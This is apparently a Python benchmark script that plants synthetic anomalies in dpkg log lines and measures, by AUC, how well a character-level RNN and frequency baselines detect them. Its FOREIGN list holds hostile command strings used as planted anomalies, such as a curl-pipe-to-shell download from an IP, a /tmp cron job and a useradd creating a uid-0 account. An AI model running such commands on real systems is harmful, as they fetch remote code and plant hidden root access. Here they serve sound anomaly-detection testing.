"""Plant anomalies in a log's held-out lines, and measure how well ``charrnn score`` and frequencies find them.

    python benchmarks/log_anomalies.py train /var/log/dpkg.log --runs runs --seeds 1 2 --time-budget 3m
    python benchmarks/log_anomalies.py find /var/log/dpkg.log --runs runs --seeds 1 2 --plantings 10

``train`` trains a model for each seed on the first 80 % of the log's lines, with further options of train in
``--settings``.  ``find`` plants anomalies in the other 20 %: one line in 20, as many of each kind as there are lines
that can have it, seeded.  It scores all these lines with the models, in several ways to read, and with counts of words
and of templates.  The measure is the area under the ROC curve (AUC): the probability that an anomaly has a higher score
than a line that was left alone, ties counting half.

The frequencies are tuned on the very lines that they are judged on.  Their variants are whole lines, words, word pairs;
numbers masked or not; the sum, the mean and the largest of a line; and what is counted: the training lines; these and
the lines before the one that is scored; or all lines, the scored one among them, as ``score --both-ways`` reads all.
The best variant without and with counts of all lines is shown, by wrong content and by all kinds.

The log itself is not part of the repository: give a log of your own.
"""

import argparse
import contextlib
import math
import re
import shlex
import subprocess
import sys
import tempfile
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import numpy as np

import charrnn
from charrnn.config import LineLearningConfig
from charrnn.inference.robust_z import RobustZ
from charrnn.inference.word_peaks import WordPeaks
from charrnn.model.line_scores import LineScorer

ROOT = Path(__file__).resolve().parent.parent
TRAINED = 0.8  # share of the lines
RATE = 1 / 20  # share of the held-out lines that become anomalies

# Our own: what another program would write.
FOREIGN = (
    "sshd[{n}]: Accepted password for root from 10.{a}.{b}.{c} port {n}",
    "kernel: EXT4-fs error (device sda{a}): ext4_lookup: deleted inode referenced: {n}",
    "curl -s http://10.{a}.{b}.{c}/x.sh | sh",
    "CRON[{n}]: (root) CMD (/tmp/.x/run {a})",
    "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash user{a}",
)


# ---- anomalies: each function takes a random generator, the words of a line and the lines after it, and returns the
# changed words, or None where the line cannot have the anomaly


def foreign_command(rng, words, following):
    """The line of another program behind the same time."""
    numbers = {"n": rng.integers(1000, 60000), **{name: rng.integers(1, 255) for name in "abc"}}
    return [*words[:2], *FOREIGN[rng.integers(len(FOREIGN))].format(**numbers).split(" ")]


def wrong_path(rng, words, following):
    """A path in place of the package."""
    if len(words) < 4 or ":" not in words[-2]:
        return None
    name = words[-2].split(":")[0]
    return [*words[:-2], f"/tmp/.{name[:3]}/{name}.so", words[-1]]


def misspelt_name(rng, words, following):
    """Two neighbouring letters of the package's name have changed places."""
    place = next((k for k, word in enumerate(words[2:], 2) if ":" in word), None)
    if place is None:
        return None
    name, _, rest = words[place].partition(":")
    swaps = [k for k in range(len(name) - 1) if name[k] != name[k + 1] and name[k : k + 2].isalpha()]
    if not swaps:
        return None
    k = swaps[rng.integers(len(swaps))]
    return [*words[:place], f"{name[:k]}{name[k + 1]}{name[k]}{name[k + 2 :]}:{rest}", *words[place + 1 :]]


def binary(rng, words, following):
    """One to four bytes that are no text."""
    k = rng.integers(2, len(words))
    place = rng.integers(len(words[k]) + 1)
    junk = "".join(chr(0xDC00 + each) for each in rng.integers(0x80, 0x100, rng.integers(1, 5)))
    return [*words[:k], words[k][:place] + junk + words[k][place:], *words[k + 1 :]]


def other_digit(rng, words, following):
    """One digit of the last version is another one."""
    digits = [k for k, character in enumerate(words[-1]) if character.isdigit()]
    if len(words) < 5 or not digits:
        return None
    k = digits[rng.integers(len(digits))]
    other = (int(words[-1][k]) + rng.integers(1, 10)) % 10
    return [*words[:-1], f"{words[-1][:k]}{other}{words[-1][k + 1 :]}"]


def words_swapped(rng, words, following):
    """Two neighbouring words behind the time have changed places."""
    if len(words) < 4:
        return None
    k = rng.integers(2, len(words) - 1)
    return [*words[:k], words[k + 1], words[k], *words[k + 2 :]]


def versions_swapped(rng, words, following):
    """An upgrade from the new version to the old one."""
    if len(words) != 6 or words[2] != "upgrade":
        return None
    return [*words[:4], words[5], words[4]]


def other_state(rng, words, following):
    """A state that the log has, but not here."""
    states = ("half-configured", "unpacked", "half-installed", "installed", "triggers-pending")
    if len(words) < 5 or words[2] != "status":
        return None
    others = [state for state in states if state != words[3]]
    return [*words[:3], others[rng.integers(len(others))], *words[4:]]


def line_too_early(rng, words, following):
    """A line that belongs some lines later, with its time."""
    return list(following[rng.integers(len(following))]) if following else None


def cut_off(rng, words, following):
    """The line ends in the middle."""
    line = " ".join(words)
    return line[: rng.integers(21, max(len(line) - 3, 22))].split(" ")


def misspelt_word(rng, words, following):
    """One letter of a word of the log's own vocabulary is another one."""
    k = 2 if words[2] != "status" or rng.integers(2) else 3
    letters = [place for place, character in enumerate(words[k]) if character.isalpha()]
    place = letters[rng.integers(len(letters))]
    letter = chr((ord(words[k][place]) - 97 + rng.integers(1, 26)) % 26 + 97)
    return [*words[:k], words[k][:place] + letter + words[k][place + 1 :], *words[k + 1 :]]


def wrong_time(rng, words, following):
    """A time that cannot follow: another year, month or hour."""
    date, time = words[0], words[1]
    which = rng.integers(3)
    if which == 0:
        date = f"{rng.integers(1970, 2020)}{date[4:]}"
    elif which == 1:
        date = f"{date[:5]}{(int(date[5:7]) + rng.integers(1, 11)) % 12 + 1:02}{date[7:]}"
    else:
        time = f"{(int(time[:2]) + rng.integers(2, 22)) % 24:02}{time[2:]}"
    return [date, time, *words[2:]]


# Lines that are wrong in themselves or beside the lines before; and lines as the log has them, in a wrong order.
WRONG_CONTENT = (
    *(foreign_command, wrong_path, misspelt_name, binary, other_digit, words_swapped, cut_off, misspelt_word),
    wrong_time,
)
WRONG_ORDER = (versions_swapped, other_state, line_too_early)
KINDS = (*WRONG_CONTENT, *WRONG_ORDER)
CONTENT, ORDER = "wrong content", "wrong order"


def planted(lines, seed):
    """The lines with anomalies, and for each line the name of its kind, or None."""
    rng, found, names = np.random.default_rng([7, seed]), list(lines), [None] * len(lines)
    split = [line.split(" ") for line in lines]
    order, kind = rng.permutation(len(lines)).tolist(), 0
    free = set(order)
    wanted = round(RATE * len(lines))
    for number in range(wanted):
        kind = KINDS[number % len(KINDS)]
        for k in order:
            if k not in free:
                continue
            changed = kind(rng, split[k], split[k + 5 : k + 40])
            if changed is not None and " ".join(changed) != lines[k]:
                found[k], names[k] = " ".join(changed), kind.__name__
                free.discard(k)
                break
    return found, names


# ---- frequencies


TRAINING_LINES, LINES_BEFORE, ALL_LINES = "training lines", "lines before", "all lines"


class Frequencies:
    """How rare the parts of a line are: -log2 of their share, with one half added to each count."""

    def __init__(self, training, others, part, masked, summed, counted):
        self._part, self._masked, self._summed, self._counted = part, masked, summed, counted
        self._counts, self._total = Counter(), 0
        for line in training + (others if counted == ALL_LINES else []):
            self._count(self._parts(line))

    def _parts(self, line):
        if self._masked:
            line = re.sub(r"\d+", "0", line)
        if self._part == "line":
            return [line]
        words = line.split(" ")
        return words if self._part == "word" else [*zip(["", *words], [*words, ""], strict=True)]

    def _count(self, parts):
        self._counts.update(parts)
        self._total += len(parts)

    def score(self, line):
        """The score of a line."""
        parts = self._parts(line)
        rare = [
            -math.log2((self._counts[part] + 0.5) / (self._total + 0.5 * (len(self._counts) + 1))) for part in parts
        ]
        if self._counted == LINES_BEFORE:
            self._count(parts)
        return {"sum": sum(rare), "mean": sum(rare) / len(rare), "max": max(rare)}[self._summed]


VARIANTS = [
    (part, masked, summed, counted)
    for part in ("line", "word", "pair")
    for masked in (True, False)
    for summed in (("sum",) if part == "line" else ("sum", "mean", "max"))
    for counted in (TRAINING_LINES, LINES_BEFORE, ALL_LINES)
]


# ---- measuring


def auc(scores, is_anomaly):
    """The area under the ROC curve."""
    scores, is_anomaly = np.asarray(scores, float), np.asarray(is_anomaly, bool)
    _, inverse, counts = np.unique(scores, return_inverse=True, return_counts=True)
    ranks = (np.cumsum(counts) - (counts - 1) / 2)[inverse]
    positive, negative = int(is_anomaly.sum()), int((~is_anomaly).sum())
    return (ranks[is_anomaly].sum() - positive * (positive + 1) / 2) / (positive * negative)


def areas(scores, names):
    """The AUC of all kinds, of those wrong in themselves, of those wrong in their place, and of each kind.

    Anomalies of other kinds do not count as lines that were left alone.
    """
    groups = {"all": KINDS, CONTENT: WRONG_CONTENT, ORDER: WRONG_ORDER} | {kind.__name__: (kind,) for kind in KINDS}
    found = {}
    for group, kinds in groups.items():
        wanted = {kind.__name__ for kind in kinds}
        rows = [k for k, name in enumerate(names) if name is None or name in wanted]
        if any(names[k] for k in rows):
            found[group] = auc([scores[k] for k in rows], [names[k] is not None for k in rows])
    return found


WAYS = {  # how lines are read: the way, whether the model learns, whether both ways, whether n-grams take part
    "alone": ("alone", False, False, True),
    "in order": ("in order", False, False, True),
    "learning, no n-grams": ("in order", True, False, False),
    "learning": ("in order", True, False, True),
    "learning both ways": ("in order", True, True, True),
}


def z_of(numbers):
    """The robust z of each number among those before it; 0 for the first ones."""
    robust = RobustZ()
    return [robust.add(number) or 0.0 for number in numbers]


def measures_of(scores):
    """By name, one number for each line."""
    found = {
        "bits": [score.bits for score in scores],
        "rate": [score.bits_per_character for score in scores],
        "peak": [score.peak for score in scores],
        "words": [score.words for score in scores],
    }
    return found | {f"z of {name}": z_of(numbers) for name, numbers in list(found.items())}


def parts_of(log):
    """The lines to train on, and the others."""
    lines = log.read_text("utf-8").splitlines()
    return lines[: int(TRAINED * len(lines))], lines[int(TRAINED * len(lines)) :]


def train(log, runs, seeds, budget, settings):
    """Train a model for each seed on the first lines of the log, with more options of train: ``settings``."""
    with tempfile.TemporaryDirectory() as folder:
        text = Path(folder, "train.log")
        text.write_text("\n".join(parts_of(log)[0]) + "\n", "utf-8")
        for seed in seeds:
            how = ("--time-budget", budget, "--seed", str(seed), "--out", str(runs), "--name", f"log{seed}", "--force")
            command = [sys.executable, "-m", "charrnn", "train", str(text), *how, *settings, "-q"]
            subprocess.run(command, cwd=ROOT, check=True)


def find(log, runs, seeds, plantings, ways, rates):
    """Print the areas of all ways to find anomalies, each the mean over the plantings.

    A model that learns does so at each of the rates.
    """
    training, others = parts_of(log)
    made = [planted(others, number) for number in range(plantings)]
    counts = Counter(name for _, names in made for name in names if name)
    print(f"{len(training):,} lines to train on, {len(others):,} others, {plantings} plantings:", dict(counts))
    frequencies = {variant: mean_areas(counted_scores(training, made, variant), made) for variant in VARIANTS}
    for counted in (LINES_BEFORE, ALL_LINES):
        variants = [variant for variant in VARIANTS if variant[-1] in (TRAINING_LINES, counted)]
        for group in (CONTENT, "all"):
            best = max(variants, key=lambda variant: frequencies[variant][group])
            show(("frequencies", f"best by {group}", *best), frequencies[best])
    for seed in seeds:
        for way in ways:
            how, learns, both_ways, has_ngrams = WAYS[way]
            for rate in rates if learns else [None]:
                found = [scored(runs / f"log{seed}", lines, how, rate, both_ways, has_ngrams) for lines, _ in made]
                about = (f"seed {seed}", way, *([f"rate {rate:g}"] if learns else []))
                bits = sum(score.bits for scores in found for score in scores)
                print(
                    *about,
                    f"{bits / sum(score.characters for scores in found for score in scores):.3f} bits a character",
                )
                measures = [measures_of(scores) for scores in found]
                for measure in measures[0]:
                    show((*about, measure), mean_areas([each[measure] for each in measures], made))
                    show_thresholds([each[measure] for each in measures], made)


def counted_scores(training, made, variant):
    """For each planting the scores of its lines by frequencies."""
    counters = [Frequencies(training, lines, *variant) for lines, _ in made]
    return [[counter.score(line) for line in lines] for counter, (lines, _) in zip(counters, made, strict=True)]


def scored(checkpoint, lines, how, rate, both_ways, has_ngrams):
    """The scores of lines. The model is loaded anew, because n-grams keep what they have learnt."""
    model = charrnn.load(checkpoint)
    scorer = LineScorer(model.mixed() if has_ngrams else model, how)
    scorer.words = WordPeaks()
    with scorer.learning(LineLearningConfig(lr=rate), both_ways) if rate else contextlib.nullcontext():
        return scorer.score(lines)


def mean_areas(scores, made):
    """The areas of :func:`areas`, the mean over all plantings; ``scores`` has a list of numbers for each planting."""
    each = [areas(numbers, names) for numbers, (_, names) in zip(scores, made, strict=True)]
    return {kind: float(np.mean([found[kind] for found in each])) for kind in each[0]}


def show_thresholds(scores, made):
    """Print above which numbers 2 and 5 % of the unchanged lines are, and how many of the changed ones then are."""
    numbers = np.concatenate(scores)
    changed = np.array([name is not None for _, names in made for name in names])
    bounds = np.quantile(numbers[~changed], [0.98, 0.95])
    shares = [(numbers[changed] > bound).mean() for bound in bounds]
    print("   above", *(f"{bound:.2f}: {share:.0%}" for bound, share in zip(bounds, shares, strict=True)))


def show(key, found):
    """Print a row."""
    print(" | ".join(map(str, key)), {kind: round(area, 3) for kind, area in found.items()}, flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("action", choices=("train", "find"))
    parser.add_argument("log", type=Path)
    parser.add_argument("--runs", type=Path, default=Path("runs"), help="folder of the models")
    parser.add_argument("--seeds", type=int, nargs="+", default=[1, 2])
    parser.add_argument("--time-budget", default="3m")
    parser.add_argument("--settings", default="", help="more options of train, in one argument")
    parser.add_argument("--plantings", type=int, default=8)
    parser.add_argument("--ways", nargs="+", choices=WAYS, default=list(WAYS))
    parser.add_argument("--rates", nargs="+", type=float, default=[LineLearningConfig().lr], help="of learning")
    given = parser.parse_args()
    if given.action == "train":
        train(given.log, given.runs.resolve(), given.seeds, given.time_budget, shlex.split(given.settings))
    else:
        find(given.log, given.runs, given.seeds, given.plantings, given.ways, given.rates)


if __name__ == "__main__":
    main()
